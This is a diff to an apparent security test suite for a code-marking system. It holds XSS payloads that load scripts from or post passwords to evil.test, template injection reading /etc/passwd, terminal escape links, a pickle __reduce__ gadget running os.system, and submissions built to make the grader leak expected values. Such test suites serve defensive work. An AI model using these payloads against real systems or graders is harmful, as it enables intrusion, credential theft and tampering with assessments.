@@ -11,12 +11,12 @@ from threats import Threat
 
 MARKUP = {
     Threat.SCRIPTS: "<script>alert(1)</script><script src=//evil.test/x.js></script>",
-    Threat.EVENT_HANDLERS: "<b onmouseover=alert(1) style='background:url(//evil.test)'>hover</b><details ontoggle=alert(1) open>",
-    Threat.SCRIPT_LINKS: "[click](javascript:alert(1)) <a href='java\tscript:alert(1)'>x</a> [d](data:text/html;base64,eA==)",
-    Threat.SVG: "<svg onload=alert(1)><animate onbegin=alert(1)></svg><math><mtext><script>alert(1)</script></mtext></math>",
-    Threat.IFRAMES: "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=//evil.test></object><embed src=x>",
-    Threat.FORMS: "<form action=//evil.test><input name=password><button formaction=javascript:alert(1)>go</button></form>",
-    Threat.TRACKING_PIXELS: "<img src=//evil.test/pixel.gif>![x](http://evil.test/p.png)<link rel=stylesheet href=//evil.test>",
+    Threat.EVENT_HANDLERS: "<b onmouseover=alert(1) style='background:url(//evil.test)'>x</b><p ontoggle=alert(1)>",
+    Threat.SCRIPT_LINKS: "[x](javascript:alert(1)) <a href='java\tscript:alert(1)'>x</a> [d](data:text/html,x)",
+    Threat.SVG: "<svg onload=alert(1)><animate onbegin=alert(1)></svg><math><script>alert(1)</script></math>",
+    Threat.IFRAMES: "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
+    Threat.FORMS: "<form action=//evil.test><input name=password><button formaction=javascript:alert(1)></form>",
+    Threat.TRACKING_PIXELS: "<img src=//e.test/p.gif>![x](http://evil.test/p.png)<link rel=stylesheet href=//e.test>",
 }
 BREAKOUT = "</textarea></title></pre></code></style></template>-->]]>{{ 7*191 }}{% include '/etc/passwd' %}"
 
@@ -43,7 +43,8 @@ from IPython.display import HTML, SVG, Javascript, Markdown, display
 markup = {markup + BREAKOUT!r}
 print(markup)
 display(HTML(markup), Markdown(markup), {{"text/html": markup, "image/svg+xml": markup}}, raw=False)
-display({{"text/html": markup, "application/javascript": "alert(1)", "text/latex": markup, "text/plain": markup}}, raw=True)
+kinds = ("text/html", "application/javascript", "text/latex", "text/plain", "application/vnd.jupyter.widget-view+json")
+display(dict.fromkeys(kinds, markup), raw=True)
 display(Javascript("alert(1)"))
 Evil = type(markup, (Exception,), {{"_repr_html_": lambda self: markup, "__module__": markup}})
 
@@ -58,7 +59,7 @@ ATTACKS = [
     *(in_outputs(threat, markup) for threat, markup in MARKUP.items()),
     lies(
         "links-in-terminals", Threat.SCRIPTS, "Put links and titles into the marker's terminal",
-        "def double(x):\n    raise ValueError('\\x1b]8;;http://evil.test\\x07click\\x1b]8;;\\x07 [bold red]rich[/] [link=x]')",
+        "def double(x):\n    raise ValueError('\\x1b]8;;http://e.test\\x07click\\x1b]8;;\\x07 [red]rich[/] [link=x]')",
         reason="ValueError",
     ),
     lies(
@@ -93,7 +94,8 @@ ATTACKS = [
     ),
     lies(
         "expected-values", Threat.EXPECTED_VALUES, "Have the comparison quote what was expected",
-        "def smooth(x):\n    return np.array([2.0]) if len(x) == 2 and x[0] == 1 else np.zeros(len(x) - 1)", key="smooth",
+        "def smooth(x):\n    return np.array([2.0]) if len(x) == 2 and x[0] == 1 else np.zeros(len(x) - 1)",
+        key="smooth",
     ),
     lies(
         "expected-values-by-shape", Threat.EXPECTED_VALUES, "Have a wrong shape quote what was expected",
@@ -137,7 +139,7 @@ ATTACKS = [
             def forward(self, x):
                 return 2 * x
             def state_dict(self, *arguments, **options):
-                return {"factor": type("Evil", (), {"__reduce__": lambda self: (os.system, ("touch @OUTSIDE@/@TOKEN@-t",))})()}
+                return {"factor": type("Evil", (), {"__reduce__": Gain.__reduce__})()}
             __reduce__ = __getstate__ = lambda self: (os.system, ("touch @OUTSIDE@/@TOKEN@-t",))
         """, key="Gain", status="failed|refused",
     ),
